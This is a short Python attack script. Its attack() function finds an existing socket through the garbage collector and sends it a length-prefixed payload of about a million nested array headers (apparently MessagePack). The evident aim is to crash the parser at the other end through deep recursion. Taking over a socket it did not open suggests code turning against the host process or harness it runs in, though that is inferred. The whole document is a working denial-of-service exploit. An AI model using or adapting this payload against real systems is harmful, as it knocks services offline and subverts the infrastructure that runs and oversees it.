"""Sends a header that is nested a million deep."""
import gc
import socket

def attack():
    channel = next(o for o in gc.get_objects() if type(o) is socket.socket)
    body = b"\x91" * (1 << 20) + b"\xc0"
    channel.sendall(len(body).to_bytes(4, "little") + bytes(8) + body)
    return 1
